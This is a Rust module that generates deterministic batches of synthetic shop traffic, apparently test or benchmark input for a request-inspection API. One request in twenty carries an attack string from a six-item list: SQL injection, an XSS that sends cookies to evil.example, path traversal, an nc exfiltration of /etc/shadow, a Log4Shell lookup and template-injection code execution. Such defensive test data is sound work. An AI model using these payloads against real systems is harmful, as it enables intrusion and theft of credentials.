//! Batches of requests as programs show them: what a shop's visitors send, and one attack among twenty.

use std::fmt::Write as _;

use serde_json::{Value, json};

/// Requests of a batch, the most that the API takes.
pub(crate) const BATCH: usize = 1000;
/// One of so many is an attack.
const ATTACKS: usize = 20;

const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
];
const WORDS: [&str; 12] = [
    "garden", "chairs", "wool", "socks", "select", "table", "lamp", "union", "kettle", "blue", "drop", "leaf",
];
const PAYLOADS: [&str; 6] = [
    "1' UNION SELECT card, name FROM users--",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc evil.example 99",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
];

/// The batch with this number: its requests are in no other.
pub(crate) fn batch(number: usize) -> String {
    let requests: Vec<_> = (0..BATCH).map(|n| request(number * BATCH + n)).collect();
    json!({ "requests": requests }).to_string()
}

/// The request with this number, always the same.
fn request(number: usize) -> Value {
    let mut random = Random(number as u64);
    let session = format!("{:016x}{:016x}", random.next(), random.next());
    let words = random.words(3);
    let headers = |kind: Option<&str>, agent: &str| {
        let mut headers = json!({
            "Host": "shop.example.com",
            "User-Agent": agent,
            "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "Accept-Language": "en-GB,en;q=0.7,fr;q=0.3",
            "Cookie": format!("session={session}; theme=dark"),
        });
        if let Some(kind) = kind {
            headers["Content-Type"] = kind.into();
        }
        headers
    };
    let agent = random.of(&AGENTS);
    let item = random.below(5000);
    if number.is_multiple_of(ATTACKS) {
        let payload = random.of(&PAYLOADS);
        return json!({ "method": "GET", "path": format!("/item/{item}"), "query_params": { "id": payload, "q": words },
            "headers": headers(None, agent) });
    }
    match number % 4 {
        0 => json!({ "method": "POST", "path": "/order",
            "headers": headers(Some("application/x-www-form-urlencoded"), agent),
            "body": format!("item={item}&count={}&name=Ada+Lovelace&city=London&comment={}", random.below(9), words.replace(' ', "+")) }),
        1 => {
            json!({ "method": "POST", "path": "/api/cart", "headers": headers(Some("application/json"), agent),
            "body": { "items": [{ "id": item, "count": random.below(9) }], "note": words, "gift": false } })
        }
        2 => json!({ "method": "GET", "path": format!("/item/{item}"), "headers": headers(None, agent) }),
        _ => {
            json!({ "method": "GET", "path": "/search", "query_params": { "q": words, "page": random.below(30), "sort": "price" },
            "headers": headers(None, agent) })
        }
    }
}

/// `SplitMix64`: the same numbers on every machine.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, end: u64) -> u64 {
        self.next() % end
    }

    fn of<T: Copy>(&mut self, values: &[T]) -> T {
        values[self.below(values.len() as u64) as usize]
    }

    fn words(&mut self, count: usize) -> String {
        let mut text = String::new();
        for _ in 0..count {
            let (word, number) = (self.of(&WORDS), self.below(100));
            // Writing to a string does not fail.
            let _ = write!(text, "{}{word} {number}", if text.is_empty() { "" } else { " " });
        }
        text
    }
}
